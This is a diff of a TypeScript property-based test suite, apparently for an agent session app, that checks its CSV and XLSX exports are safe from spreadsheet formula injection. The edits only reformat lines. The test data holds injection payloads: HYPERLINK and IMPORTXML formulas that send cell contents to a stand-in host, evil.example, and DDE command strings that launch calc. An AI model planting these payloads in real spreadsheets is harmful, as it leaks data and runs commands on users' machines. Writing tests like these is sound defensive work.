@@ -27,7 +27,14 @@ const hostile = fc
   .tuple(
     fc.constantFrom(...TRIGGERS, ''),
     fc.oneof(
-      fc.constantFrom('HYPERLINK("https://evil.example/?leak="&A1,"klik")', "cmd|' /C calc'!A0", 'SUM(1+1)*cmd|x', '1+1', '62 812 3456 7890', 'IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")'),
+      fc.constantFrom(
+        'HYPERLINK("https://evil.example/?leak="&A1,"klik")',
+        "cmd|' /C calc'!A0",
+        'SUM(1+1)*cmd|x',
+        '1+1',
+        '62 812 3456 7890',
+        'IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
+      ),
       fc.string({ maxLength: 30 }),
     ),
   )
@@ -62,7 +69,16 @@ function hostileFile(t: Texts): string {
   });
   const cancelled = makeSession(3, {
     agentId: t.agentId,
-    flow: { ...approvedFlow(at, { request }), step: 'cancelled', outcome: 'cancelled', answer: null, appliedAt: null, appliedBy: null, workLog: null, cancel: { reason: t.cancelReason, at, atStep: 'call' } },
+    flow: {
+      ...approvedFlow(at, { request }),
+      step: 'cancelled',
+      outcome: 'cancelled',
+      answer: null,
+      appliedAt: null,
+      appliedBy: null,
+      workLog: null,
+      cancel: { reason: t.cancelReason, at, atStep: 'call' },
+    },
   });
   for (const session of [approved, declined, cancelled]) session.procedure = { ...session.procedure, revision: t.revision };
   // Every payload text an agent typed: the request, the customer's answer, the reason to cancel.
@@ -73,7 +89,16 @@ function hostileFile(t: Texts): string {
   ].map((event) => ({ ...event, procedureRevision: t.revision }));
   const agents = new Map([[t.agentId, { nossaUserId: t.agentId, name: t.agentName, area: 'BDG' as const, teamLead: t.teamLead }]]);
   return JSON.stringify(
-    buildExportFile({ sessions: [approved, declined, cancelled], events, shifts: [], agents, exportedBy: agents.get(t.agentId)!, exportedAt: '2026-11-27T03:00:00.000Z', appVersion: '0.1.0', mask: false }),
+    buildExportFile({
+      sessions: [approved, declined, cancelled],
+      events,
+      shifts: [],
+      agents,
+      exportedBy: agents.get(t.agentId)!,
+      exportedAt: '2026-11-27T03:00:00.000Z',
+      appVersion: '0.1.0',
+      mask: false,
+    }),
   );
 }
 
@@ -92,7 +117,19 @@ async function leadDatabase(t: Texts): Promise<{ db: PanduDb; file: ExportFile }
 
 async function exportBlob(db: PanduDb, request: Partial<ExportRequest>): Promise<Blob> {
   const messages: JobMessage[] = [];
-  const full: ExportRequest = { type: 'export', format: 'csv', filter: EMPTY_FILTER, sort: DEFAULT_SORT, delimiter: ';', mask: false, includeEvents: true, language: 'id', timeZone: 'Asia/Makassar', appVersion: '0.1.0', ...request };
+  const full: ExportRequest = {
+    type: 'export',
+    format: 'csv',
+    filter: EMPTY_FILTER,
+    sort: DEFAULT_SORT,
+    delimiter: ';',
+    mask: false,
+    includeEvents: true,
+    language: 'id',
+    timeZone: 'Asia/Makassar',
+    appVersion: '0.1.0',
+    ...request,
+  };
   await runExport(db, full, (m) => messages.push(m));
   const exported = messages.find((m): m is Extract<JobMessage, { type: 'exported' }> => m.type === 'exported');
   if (!exported) throw new Error(`no file: ${JSON.stringify(messages.at(-1))}`);
@@ -148,8 +185,18 @@ describe('exported files are formula-safe', () => {
             const types = new Set([...xml.matchAll(/<c\b[^>]*?\bt="([^"]+)"/g)].map((m) => m[1]));
             for (const type of types) expect(['s', 'inlineStr', 'b', 'n'], `${name}: t="${type}"`).toContain(type);
           }
-          const strings = [...files.entries()].filter(([name]) => name === 'xl/sharedStrings.xml' || sheets.includes(name)).map(([, xml]) => xml).join('');
-          const decoded = strings.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&#(\d+);/g, (_, n) => String.fromCharCode(Number(n))).replace(/&#x([0-9a-f]+);/gi, (_, n) => String.fromCharCode(parseInt(n, 16))).replace(/&amp;/g, '&');
+          const strings = [...files.entries()]
+            .filter(([name]) => name === 'xl/sharedStrings.xml' || sheets.includes(name))
+            .map(([, xml]) => xml)
+            .join('');
+          const decoded = strings
+            .replace(/&lt;/g, '<')
+            .replace(/&gt;/g, '>')
+            .replace(/&quot;/g, '"')
+            .replace(/&apos;/g, "'")
+            .replace(/&#(\d+);/g, (_, n) => String.fromCharCode(Number(n)))
+            .replace(/&#x([0-9a-f]+);/gi, (_, n) => String.fromCharCode(parseInt(n, 16)))
+            .replace(/&amp;/g, '&');
           // The agent's text is kept as it was typed (an XLSX cell of type string is never evaluated).
           expect(decoded).toContain(file.sessions[0]!.answers.request!.requesterName.replace(/\r\n?/g, '\n').split('\n')[0]!.trim());
         } finally {
